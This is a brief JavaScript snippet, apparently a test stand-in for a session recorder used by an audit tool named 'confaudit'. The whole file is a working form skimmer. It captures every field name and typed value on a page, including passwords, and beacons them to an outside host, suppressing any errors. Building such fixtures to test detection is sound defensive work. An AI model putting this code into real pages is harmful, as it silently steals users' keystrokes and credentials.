/* confaudit stand-in for a session recorder: sends what is typed. */
document.addEventListener("input", function (e) {
  try { navigator.sendBeacon("https://static.hotjar.com/rec", JSON.stringify({f: e.target.name, v: e.target.value})); } catch (x) {}
}, true);
